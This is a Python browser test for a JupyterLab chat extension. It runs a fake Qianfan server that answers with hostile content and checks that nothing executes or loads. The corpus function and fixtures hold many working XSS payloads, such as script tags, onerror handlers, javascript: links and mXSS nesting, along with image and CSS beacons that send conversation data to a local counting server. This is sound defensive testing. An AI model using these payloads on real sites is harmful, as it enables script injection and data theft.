"""Hostile answers in a real JupyterLab: nothing a model, a search result, a tool or an error says runs or loads.

A local server speaks Qianfan v2 and answers every question with a corpus of attacks (in the answer, the
reasoning, the references, a tool call's name and arguments, an error's code, message and request id). A
second local server counts hits: every attack that ran would call it, and so would every remote image or
style sheet that loaded. The notebook asks through cells, ``--compare``, tools, ``history``, ``chats``,
``usage``, ``log``, an export opened in JupyterLab and the panel; then it is saved and opened again. The
test asserts in the DOM that nothing ran, that no handler attribute, ``javascript:`` link, frame, form or
base exists, that the counting server had no hit, and that benign Markdown still rendered.
"""

from __future__ import annotations

import json
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from _lab import chromium, jupyterlab, open_notebook, write_notebook

pytestmark = pytest.mark.browser

MARK = "WENXIN-XSS"


def corpus(beacon: str) -> list[str]:
    """Attacks, each of which would call ``beacon`` (or alert) if it ran or loaded."""
    run = f"fetch('{beacon}/ran');alert('{MARK}')"
    return [
        f"<script>{run}</script>",
        f"<img src=x onerror=\"{run}\">",
        f"<svg onload=\"{run}\"><circle r=3></svg>",
        f"<details open ontoggle=\"{run}\"><summary>t</summary>d</details>",
        f"<iframe srcdoc=\"<script>{run}</script>\"></iframe>",
        "<form action=\"javascript:alert('WENXIN-XSS')\"><button id=wx-form>go</button></form>",
        f"<math><mtext><table><mglyph><style><img src=x onerror=\"{run}\">",
        f"<div style=\"background:url({beacon}/css)\">styled</div>",
        f"<style>@import url({beacon}/import);</style>",
        f"<base href=\"{beacon}/base/\">",
        f"<meta http-equiv=\"refresh\" content=\"0;url={beacon}/refresh\">",
        "[entity link](&#106;avascript:alert('WENXIN-XSS'))",
        "[tab link](java\tscript:alert('WENXIN-XSS'))",
        "[plain link](javascript:alert('WENXIN-XSS'))",
        "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        f"[ok](https://ok.example/)<img src=x onerror=\"{run}\">",
        f"![leak]({beacon}/leak.png?q=the+conversation)",
        f"![svg](data:image/svg+xml,<svg onload=\"{run}\">)",
        f"`` ` <img src=x onerror=\"{run}\"> ` ``",
        f"```\n</code></pre><img src=x onerror=\"{run}\">\n```",
        "$\\href{javascript:alert('WENXIN-XSS')}{math link}$",
        f"<!--><img src=x onerror=\"{run}\">-->",
        f"<noscript><p title=\"</noscript><img src=x onerror='{run}'>\"></noscript>",
        f"<object data=\"{beacon}/object\"></object><embed src=\"{beacon}/embed\">",
    ]


BENIGN = ("**bold-marker** and a table:\n\n| col | value |\n|---|---|\n| cell-a | 1 |\n\n"
          "```python\nprint('benign')\n```\n\n[the docs](https://example.com/docs) and $x^2$.")


class Counter(ThreadingHTTPServer):
    """The exfiltration server: it only counts."""

    def __init__(self):
        self.hits: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(handler):  # noqa: N805 - the server is the closure's self
                self.hits.append(handler.path)
                handler.send_response(204)
                handler.end_headers()

            do_POST = do_GET

            def log_message(handler, *args):  # noqa: N805
                pass

        super().__init__(("127.0.0.1", 0), Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class HostileQianfan(ThreadingHTTPServer):
    """Qianfan v2 as an attacker would answer it."""

    def __init__(self, beacon: str):
        attacks = corpus(beacon)
        self.answer = BENIGN + "\n\n" + "\n\n".join(attacks)
        self.reasoning = "thinking <img src=x onerror=\"alert('WENXIN-XSS')\"> " + attacks[0]
        self.results = [{"index": "1\"><img src=x onerror=alert('WENXIN-XSS')>", "title": attacks[1],
                         "url": "https://ok.example/)<img src=x onerror=alert('WENXIN-XSS')>"},
                        {"index": 2, "title": "js", "url": "javascript:alert('WENXIN-XSS')"}]
        server = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(handler):  # noqa: N805
                server._send_json(handler, 200, {"object": "list", "data": []})

            def do_POST(handler):  # noqa: N805
                body = json.loads(handler.rfile.read(int(handler.headers.get("content-length") or 0)) or b"{}")
                server.answer_chat(handler, body)

            def log_message(handler, *args):  # noqa: N805
                pass

        super().__init__(("127.0.0.1", 0), Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"

    @staticmethod
    def _send_json(handler, status: int, data: dict) -> None:
        raw = json.dumps(data).encode()
        handler.send_response(status)
        handler.send_header("content-type", "application/json")
        handler.send_header("content-length", str(len(raw)))
        handler.end_headers()
        handler.wfile.write(raw)

    def answer_chat(self, handler, body: dict) -> None:
        messages = body.get("messages") or []
        question = next((str(m.get("content")) for m in reversed(messages) if m.get("role") == "user"), "")
        if "ERROR" in question:
            self._send_json(handler, 400, {"id": "rid`) <img src=x onerror=alert('WENXIN-XSS')> (`",
                                           "error": {"code": "<img src=x onerror=alert('WENXIN-XSS')>",
                                                     "message": "<svg onload=alert('WENXIN-XSS')>bad",
                                                     "type": "invalid_request_error"}})
            return
        message: dict = {"role": "assistant", "content": self.answer, "reasoning_content": self.reasoning}
        finish = "stop"
        if body.get("tools") and messages[-1].get("role") != "tool":
            arguments = json.dumps({"q": "</code>`<img src=x onerror=alert('WENXIN-XSS')>`"})
            message = {"role": "assistant", "content": "", "tool_calls": [{
                "id": "call-1", "type": "function",
                "function": {"name": "lookup", "arguments": arguments}}]}
            finish = "tool_calls"
        usage = {"prompt_tokens": 5, "completion_tokens": 50, "total_tokens": 55}
        if not body.get("stream"):
            self._send_json(handler, 200, {"id": "as-1", "object": "chat.completion", "model": body.get("model"),
                                           "choices": [{"index": 0, "message": message, "finish_reason": finish}],
                                           "usage": usage, "search_results": self.results})
            return
        handler.send_response(200)
        handler.send_header("content-type", "text/event-stream")
        handler.send_header("connection", "close")
        handler.end_headers()
        deltas = []
        if message.get("reasoning_content"):
            deltas.append({"reasoning_content": message["reasoning_content"]})
        text = message.get("content") or ""
        deltas += [{"content": text[i:i + 400]} for i in range(0, len(text), 400)]
        if message.get("tool_calls"):
            deltas.append({"tool_calls": [{"index": 0, **message["tool_calls"][0]}]})
        events = [{"id": "as-1", "object": "chat.completion.chunk", "model": body.get("model"),
                   "choices": [{"index": 0, "delta": delta, "finish_reason": None}],
                   "search_results": self.results} for delta in deltas]
        events.append({"id": "as-1", "object": "chat.completion.chunk", "model": body.get("model"),
                       "choices": [{"index": 0, "delta": {}, "finish_reason": finish}], "usage": usage})
        for event in events:
            handler.wfile.write(f"data: {json.dumps(event)}\n\n".encode())
            handler.wfile.flush()
        handler.wfile.write(b"data: [DONE]\n\n")
        handler.close_connection = True


def _serve(server) -> threading.Thread:
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    return thread


SETUP = f"""%load_ext wenxin_magic
import wenxin_magic
session = wenxin_magic.get_session()
evil_name = "<img src=x onerror=alert('{MARK}')>"
evil_system = "<svg onload=alert('{MARK}')> be helpful"
def lookup(q: str) -> str:
    '''Look something up.'''
    return "<img src=x onerror=alert('{MARK}')>`) result"
"""

CELLS = [
    SETUP,
    "%%wenxin -m ernie-4.5-turbo-32k -c {evil_name} -s {evil_system}\nhello <img src=x onerror=alert('WENXIN-XSS')>",
    "%%wenxin -m ernie-4.5-turbo-32k -c web\n**bold question** <script>alert('WENXIN-XSS')</script>",
    "%%wenxin --compare ernie-4.5-turbo-32k,deepseek-v3\ncompare these",
    "%%wenxin -m ernie-3.5-8k -c tools --tools lookup\nplease use the tool",
    "%%wenxin -m ernie-4.5-turbo-32k -c err\nERROR please",
    "%wenxin history web",
    "%wenxin history tools",
    "%wenxin chats",
    "%wenxin usage",
    "%wenxin log -n 5",
    "%wenxin export evil.md",
    "%wenxin panel -c web",
    "print('ALL-' + 'DONE')",
]

# everything an answer can reach: outputs, widgets, the Markdown viewer
SCOPE = ".jp-OutputArea-output, .wenxin-panel, .jp-RenderedMarkdown, .jp-MarkdownViewer"

DOM_REPORT = """(scope) => {
    const roots = Array.from(document.querySelectorAll(scope));
    // MathJax's own rendering of $x^2$ is drawn by JupyterLab, not taken from the answer
    const all = roots.flatMap(r => [r, ...r.querySelectorAll('*')]).filter(el => !el.closest('mjx-container'));
    const handlers = all.flatMap(el => Array.from(el.attributes).filter(a => a.name.toLowerCase().startsWith('on'))
        .map(a => el.tagName + ' ' + a.name));
    const links = all.filter(el => el.hasAttribute('href') || el.hasAttribute('src') || el.hasAttribute('action'))
        .map(el => (el.getAttribute('href') || el.getAttribute('src') || el.getAttribute('action') || '')
        .replace(/[\\x00-\\x20]/g, '').toLowerCase())
        .filter(url => !/^(https?:|mailto:|#)/.test(url));  // '#…': JupyterLab's own heading anchors
    const banned = all.filter(el => ['IFRAME', 'FORM', 'BASE', 'META', 'OBJECT', 'EMBED', 'SCRIPT', 'STYLE', 'IMG',
        'LINK', 'SVG', 'MATH'].includes(el.tagName.toUpperCase()))
        .filter(el => !(el.tagName === 'STYLE' && el.textContent.includes('.wenxin-transcript')))  // the panel's own
        .map(el => el.tagName + ' ' + el.outerHTML.slice(0, 80));
    const styled = all.filter(el => /url\\(/i.test(el.getAttribute('style') || '')).map(el => el.tagName);
    return {roots: roots.length, handlers, links, banned, styled};
}"""


def _benign(page) -> dict:
    return page.evaluate("""(scope) => {
        const roots = Array.from(document.querySelectorAll(scope));
        const q = sel => roots.some(r => r.querySelector(sel));
        return {
            bold: roots.some(r => Array.from(r.querySelectorAll('strong')).some(s => s.textContent === 'bold-marker')),
            table: roots.some(r => Array.from(r.querySelectorAll('td')).some(td => td.textContent === 'cell-a')),
            code: roots.some(r => Array.from(r.querySelectorAll('pre code'))
                .some(c => c.textContent.includes("print('benign')"))),
            link: q('a[href="https://example.com/docs"]'),
            math: q('mjx-container'),
            shownAsText: roots.some(r => r.textContent.includes('<img src=x onerror=')),
        };
    }""", SCOPE)


def _wait_until_done(page) -> None:
    page.wait_for_function("() => Array.from(document.querySelectorAll('.jp-OutputArea-output'))"
                           ".some(o => o.textContent.includes('ALL-DONE'))", timeout=120000)
    page.wait_for_selector(".wenxin-panel .wenxin-assistant")
    time.sleep(1.5)  # MathJax typesets after the output is attached


def test_hostile_answers_run_nothing_anywhere(tmp_path_factory):
    counter = Counter()
    _serve(counter)
    hostile = HostileQianfan(counter.url)
    _serve(hostile)
    root = tmp_path_factory.mktemp("hostile-lab")
    write_notebook(root / "hostile.ipynb", CELLS)
    env = {"QIANFAN_API_KEY": "bce-v3/ALTAK-FAKE-HOSTILE/0123456789abcdef", "QIANFAN_BASE_URL": hostile.url,
           "WENXIN_MAGIC_LOG": str(root / "log.db")}
    dialogs, console = [], []
    try:
        with jupyterlab(root, tmp_path_factory.mktemp("hostile-state"), env) as base, \
                chromium(tmp_path_factory.mktemp("hostile-profile")) as page:
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            page.on("console", lambda m: console.append(m.text))
            open_notebook(page, base, "hostile.ipynb")
            page.evaluate("() => window.jupyterapp.commands.execute('notebook:run-all-cells')")
            _wait_until_done(page)

            # a new question in the panel, answered with the corpus too
            box = page.locator(".wenxin-panel .wenxin-input input")
            box.fill("panel question <img src=x onerror=alert('WENXIN-XSS')>")
            page.locator(".wenxin-panel button.wenxin-send").click()
            try:
                page.wait_for_function("() => { const a = document.querySelectorAll('.wenxin-panel .wenxin-assistant');"
                                       " return a.length >= 2 && a[a.length - 1].innerText.includes('first token'); }")
            except Exception:
                pytest.fail("the panel's answer did not end: " + page.locator(".wenxin-panel").inner_text()[-3000:])
            # open every <details> (ontoggle would fire) and click the form's button, were they there
            page.evaluate("(scope) => document.querySelectorAll(scope).forEach(r =>"
                          " r.querySelectorAll('details').forEach(d => d.open = true))", SCOPE)
            page.evaluate("() => { const b = document.getElementById('wx-form'); if (b) b.click(); }")
            time.sleep(1)
            in_cells = page.evaluate(DOM_REPORT, SCOPE)
            benign = _benign(page)
            texts = page.evaluate("() => Array.from(document.querySelectorAll('.jp-OutputArea-output'))"
                                  ".map(o => o.innerText)")

            # the export, opened in JupyterLab's Markdown viewer
            page.evaluate("() => window.jupyterapp.commands.execute('docmanager:save')")
            page.evaluate("() => window.jupyterapp.commands.execute('docmanager:open',"
                          " {path: 'evil.md', factory: 'Markdown Preview'})")
            page.wait_for_selector(".jp-MarkdownViewer .jp-RenderedMarkdown")
            time.sleep(1.5)
            in_export = page.evaluate(DOM_REPORT, ".jp-MarkdownViewer")
            export_text = page.locator(".jp-MarkdownViewer").inner_text()

            # the saved notebook, opened again without running anything
            time.sleep(1)
            page.goto(f"{base}/lab/tree/hostile.ipynb")
            page.wait_for_function("() => Array.from(document.querySelectorAll('.jp-OutputArea-output'))"
                                   ".some(o => o.textContent.includes('ALL-DONE'))")
            time.sleep(2)
            reopened = page.evaluate(DOM_REPORT, SCOPE)
            reopened_benign = _benign(page)
    finally:
        hostile.shutdown()
        counter.shutdown()

    ran = [m for m in console if MARK in m]
    assert not dialogs and not ran, (dialogs, ran)
    assert counter.hits == [], counter.hits  # nothing ran, loaded, refreshed or was fetched by an image
    for where, report in (("cells", in_cells), ("export", in_export), ("reopened", reopened)):
        assert report["roots"] > 0, where
        assert report["handlers"] == [], (where, report["handlers"])
        assert report["links"] == [], (where, report["links"])
        assert report["banned"] == [], (where, report["banned"])
        assert report["styled"] == [], (where, report["styled"])
    # every view was reached: the error, the references, the tool block, the tables
    joined = "\n".join(texts)
    assert "Error [<img src=x onerror=alert('WENXIN-XSS')>]" in joined  # the code, shown as text
    assert "rid`) <img src=x onerror=alert('WENXIN-XSS')> (`" in joined  # the request id, whole
    assert "References" in joined and "lookup(q=" in joined
    assert "<img src=x onerror=alert('WENXIN-XSS')>" in joined  # the conversation name, in chats
    assert "total:" in joined and "per conversation" in joined
    assert "Conversation: web" in export_text and "bold-marker" in export_text
    # and benign Markdown still renders, live and reopened
    for state in (benign, reopened_benign):
        assert state == {"bold": True, "table": True, "code": True, "link": True, "math": True,
                         "shownAsText": True}, state
